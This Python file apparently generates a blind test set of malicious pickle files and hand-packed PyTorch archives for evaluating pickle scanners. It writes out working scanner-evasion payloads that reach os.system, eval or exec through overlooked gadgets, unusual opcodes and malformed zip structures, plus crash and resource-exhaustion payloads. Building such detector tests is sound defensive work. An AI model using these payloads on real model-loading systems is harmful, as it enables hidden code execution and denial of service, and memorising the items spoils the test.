"""Fourth blind set: names that lists of forbidden names forgot, unusual opcodes, and torch archives packed by hand."""

# ruff: noqa: E501 (payloads are kept whole)
from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

from corpora.unseen3_base import CODE, COMMANDS, EXPRESSION, Build, G, Raw, Sample, call, dumps, new, opcodes, zipped
from corpora.unseen4_gadgets import INNER, LOAD, STATEMENT, TOUCH

TORCH = "import torch; torch.load(f, weights_only=False)"
EVIL = call("os:system", TOUCH)


def forgotten() -> Iterator[tuple[str, object, str]]:
    """Published ways past lists of forbidden names (advisories on pickle scanners of 2025 and talks about them)."""
    space = new("types:SimpleNamespace")
    start = "asyncio.unix_events:_UnixSubprocessTransport._start"
    yield "asyncio-start", (call(start, space, TOUCH, True, None, None, None, 0), call("time:sleep", 1.0)), "main"
    labels = Build(new("types:SimpleNamespace"), {"labels": []})
    label = f"'' or {EXPRESSION}"
    yield "pgen-label", call("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, labels, label), "main"
    yield "f2py-param-eval", call("numpy.f2py.crackfortran:param_eval", EXPRESSION, {}, {}), "main"
    yield "f2py-scalar", call("numpy.f2py.crackfortran:_eval_scalar", EXPRESSION, {}), "main"
    guards = "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression"
    yield "torch-guards", call(guards, None, EXPRESSION, ()), "main"
    yield "idle-complete", call("idlelib.autocomplete:AutoComplete.get_entity", None, EXPRESSION), "main"
    yield "idle-calltip", call("idlelib.calltip:get_entity", EXPRESSION), "main"
    yield "idle-object-tree", call("idlelib.debugobj:ObjectTreeItem.SetText", space, EXPRESSION), "main"
    yield "tempfile-pager", call("pydoc:tempfilepager", "text", f"{TOUCH} #"), "main"
    yield "timeit-main", call("timeit:main", ["-n1", "-r1", STATEMENT]), "main"
    yield "profile-object", call("profile:Profile.run", call("profile:Profile"), STATEMENT), "main"
    yield "cprofile-object", call("cProfile:Profile.runctx", call("cProfile:Profile"), STATEMENT, {}, {}), "main"
    yield "trace-object", call("trace:Trace.run", call("trace:Trace"), STATEMENT), "main"
    yield "bdb-object", call("bdb:Bdb.run", call("bdb:Bdb"), STATEMENT), "main"
    yield (
        "method-caller",
        (
            let_call := call("operator:methodcaller", "system", TOUCH),
            Raw(opcodes(let_call, 4) + opcodes(G("statistics:random._os"), 4) + b"\x85R"),
        )[1],
        "main",
    )
    yield (
        "attribute-getter",
        Raw(
            opcodes(call("operator:attrgetter", "_os.system"), 4)
            + opcodes(G("statistics:random"), 4)
            + b"\x85R"
            + opcodes(TOUCH, 4)
            + b"\x85R"
        ),
        "main",
    )
    yield (
        "joined-by-format",
        call("builtins:eval", call("builtins:str.format", "__imp{}__('os').system('{}')", "ort", TOUCH)),
        "main",
    )
    yield (
        "replaced-text",
        call("builtins:exec", call("builtins:str.replace", "imp_rt os; os.system('touch /tmp/x')", "_", "o")),
        "main",
    )
    characters = call("builtins:map", G("builtins:chr"), [ord(one) for one in EXPRESSION])
    yield "characters", call("builtins:eval", call("builtins:str.join", "", characters)), "main"


def opcode_forms() -> Iterator[tuple[str, bytes]]:
    touch = opcodes(TOUCH, 4)
    for name, kind, size in (("binunicode8", b"\x8d", "<Q"), ("binunicode", b"X", "<I")):
        words = b"".join(kind + struct.pack(size, len(word)) + word for word in (b"posix", b"system"))
        yield name, b"\x80\x04" + words + b"\x93" + touch + b"\x85R."
    yield "long-binput", b"\x80\x02cposix\nsystem\nr\x10\x27\x00\x00j\x10\x27\x00\x00X\x0c\0\0\0touch /tmp/x\x85R."
    yield "tuple-two-of-one", b"\x80\x03cbuiltins\neval\n" + opcodes(EXPRESSION, 3) + b"}\x86R."
    yield (
        "two-frames-inside-proto-0",
        b"\x80\x05cos\nsystem\n\x95" + struct.pack("<Q", len(touch) + 3) + touch + b"\x85R.",
    )
    memo = b"\x80\x04]\x94(\x8c\x06system\x94\x8c\x02os\x94\x8c\x0ctouch /tmp/x\x94e0h\x02h\x01\x93h\x03\x85R."
    yield "names-from-a-list", memo
    state = opcodes({"__setstate__": G("os:system")}, 4)
    yield (
        "partial-setstate",
        b"\x80\x04" + opcodes(G("types:SimpleNamespace"), 4) + b")\x81" + state + b"b" + touch + b"b.",
    )
    yield (
        "build-on-a-module",
        b"\x80\x04"
        + opcodes(G("os:path"), 4)
        + opcodes({"join": G("os:system")}, 4)
        + b"b"
        + opcodes(call("posixpath:join", TOUCH), 4)
        + b".",
    )
    yield (
        "item-of-globals",
        b"\x80\x04"
        + opcodes(G("random:Random.seed.__globals__"), 4)
        + opcodes("_urandom", 4)
        + opcodes(G("os:system"), 4)
        + b"s"
        + opcodes(call("random:_urandom", TOUCH), 4)
        + b".",
    )
    yield (
        "set-class-attribute",
        b"\x80\x04"
        + opcodes(G("fractions:Fraction"), 4)
        + opcodes((None, {"__new__": G("os:system")}), 4)
        + b"b0"
        + opcodes(G("fractions:Fraction"), 4)
        + b"0"
        + opcodes(call("os:system", TOUCH), 4)
        + b".",
    )
    yield (
        "add-items-map",
        b"\x80\x04\x8f(" + opcodes(call("builtins:next", call("builtins:map", G("os:system"), [TOUCH])), 4) + b"\x90.",
    )
    yield (
        "in-a-large-dict",
        b"\x80\x04}("
        + b"".join(opcodes(f"layer.{i}.weight", 4) + opcodes(i / 7, 4) for i in range(3000))
        + opcodes("config", 4)
        + opcodes(EVIL, 4)
        + b"u.",
    )
    yield "nested-twice", dumps(call("pickle:loads", dumps(call("pickle:loads", INNER), 2)), 4)
    yield (
        "injected-in-front",
        b"\x80\x04cbuiltins\nexec\n(V" + CODE[1].encode() + b"\ntR0" + dumps({"w": [1.0, 2.0]}, 4)[2:],
    )
    yield "injected-behind", dumps({"w": [1.0, 2.0]}, 4)[:-1] + b"0cbuiltins\nexec\n(V" + CODE[2].encode() + b"\ntR0}."
    yield (
        "injected-around",
        b"\x80\x04" + opcodes(G("posix:system"), 4) + opcodes(COMMANDS[5], 4) + b"\x85R0" + dumps([1, 2], 2)[2:],
    )
    yield "unused-memo", b"\x80\x04" + opcodes(EVIL, 4) + b"q\x300" + opcodes({"a": 1}, 4) + b"."
    yield "broken-behind", b"\x80\x02" + opcodes(EVIL, 2) + b"0}q\x00X\xff\xff\xff\x7fweights"
    yield "unknown-opcode-behind", b"\x80\x04" + opcodes(EVIL, 4) + b"0}\xf7\xf7."
    yield "names-in-unicode", b"\x80\x04" + opcodes(call("os:system", "touch /tmp/x #\u202etxt.ledom"), 4) + b"."
    yield "comment-of-help", b"cos\nsystem\n(S'touch /tmp/x'\ntR."
    yield "long-prefix-of-marks", b"\x80\x02" + b"(" * 500 + opcodes(EVIL, 2) + b"."
    yield "mark-list-call", b"(cbuiltins\nexec\nV" + CODE[0].encode() + b"\no."
    yield "instance-with-dots", b"(V" + TOUCH.encode() + b"\nios\nsystem\n."


def torch_archives() -> Iterator[tuple[str, bytes, str]]:
    data = dumps([1, EVIL], 2)
    clean = dumps({"a": 1}, 2)
    basic = {"m/data.pkl": data, "m/version": b"3\n", "m/byteorder": b"little"}
    yield "hand-made", zipped(basic), TORCH
    yield "folder-with-spaces", zipped({"my model/data.pkl": data, "my model/version": b"3\n"}), TORCH
    yield (
        "prefix-of-bytes",
        b"\0" * 64 + zipped(basic),
        "import zipfile, pickle; pickle.loads(zipfile.ZipFile(f).read('m/data.pkl'))",
    )
    yield "comment", _commented(basic), TORCH
    yield "case-of-name", zipped({"m/DATA.PKL": data, "m/data.pkl": clean, "m/version": b"3\n"}), TORCH
    yield (
        "twice",
        zipped([("m/data.pk1", clean), ("m/data.pkl", data), ("m/version", b"3\n")]).replace(b"pk1", b"pkl"),
        "import zipfile, pickle; pickle.loads(zipfile.ZipFile(f).read('m/data.pkl'))",
    )
    wrong = bytearray(zipped(basic))
    crc = wrong.find(b"PK\x01\x02") + 16
    wrong[crc : crc + 4] = b"\x01\x02\x03\x04"
    yield "wrong-checksum", bytes(wrong), TORCH
    flagged = bytearray(zipped(basic))
    flagged[flagged.find(b"PK\x01\x02") + 8] = 0
    flagged[6] = 1
    yield "flag-of-encryption", bytes(flagged), TORCH
    yield "broken-pickle", zipped({"m/data.pkl": data[:-1] + b"\xff\xff", "m/version": b"3\n"}), TORCH
    yield (
        "constants",
        zipped({"m/data.pkl": clean, "m/constants.pkl": data, "m/version": b"3\n"}),
        (
            "import zipfile, pickle\nz = zipfile.ZipFile(f)\n[pickle.loads(z.read(n)) for n in z.namelist() if n.endswith('.pkl')]"
        ),
    )
    renamed = zipped(basic).replace(b"m/data.pkl", b"m/data.txt", 1)
    yield "local-name-differs", renamed, TORCH
    yield (
        "wrapped-in-bytes",
        zipped({"m/data.pkl": dumps(call("torch.storage:_load_from_bytes", zipped(basic)), 2), "m/version": b"3\n"}),
        TORCH,
    )
    descriptor = io.BytesIO()
    with zipfile.ZipFile(_Pipe(descriptor), "w") as file:  # type: ignore[arg-type]
        for name, content in basic.items():
            file.writestr(name, content)
    yield "data-descriptors", descriptor.getvalue(), TORCH
    yield "sixty-four", _sixty_four(basic), TORCH


class _Pipe:
    """A stream that cannot be sought, so that sizes follow the members."""

    def __init__(self, out: io.BytesIO) -> None:
        self.out = out

    def write(self, data: bytes) -> int:
        return self.out.write(data)

    def flush(self) -> None:
        pass


def _commented(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO(zipped(members))
    with zipfile.ZipFile(out, "a") as file:
        file.comment = b"weights of run 7"
    return out.getvalue()


def _sixty_four(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, content in members.items():
            with file.open(zipfile.ZipInfo(name), "w", force_zip64=True) as member:
                member.write(content)
    return out.getvalue()


def exhausting() -> Iterator[tuple[str, object]]:
    yield "repeat", call("builtins:list", call("itertools:repeat", 1))
    yield "times", call("_operator:mul", "abcdefgh", 1 << 30)
    yield "count", call("collections:deque", call("itertools:count"), 0)
    yield "regex", call("re:fullmatch", "(a+)+b", "a" * 60)
    yield "sleep", call("time:sleep", 1000000)
    yield "abort", call("os:abort")
    yield "null-pointer", call("ctypes:string_at", 1)
    yield "signal", call("signal:raise_signal", 9)
    yield "fault", call("faulthandler:_sigsegv")
    yield "combinations", call("builtins:list", call("itertools:permutations", list(range(14))))
    yield "torch-ones", call("torch:ones", 1 << 30)


def candidates() -> Iterator[Sample]:
    for name, value, env in forgotten():
        yield Sample(f"forgotten/{name}", {"model.pkl": dumps(value)}, LOAD, "code", env)
    for name, data in opcode_forms():
        yield Sample(f"opcode/{name}", {"model.pkl": data}, LOAD, "code")
    for name, data, loader in torch_archives():
        yield Sample(f"torch-hand/{name}", {"model.pt": data}, loader, "code")
    for name, value in exhausting():
        yield Sample(f"exhausting/{name}", {"model.pkl": dumps(value)}, LOAD, "crash")
    buffer = b"\x80\x05" + opcodes(G("builtins:exec"), 4) + b"\x97\x85R."
    out = "import pickle; d = open(f, 'rb').read(); pickle.loads(d, buffers=[open(f + '.buf', 'rb').read()])"
    files = {"model.pkl": buffer, "model.pkl.buf": CODE[1].encode()}
    yield Sample("opcode/out-of-band", files, out, "code")
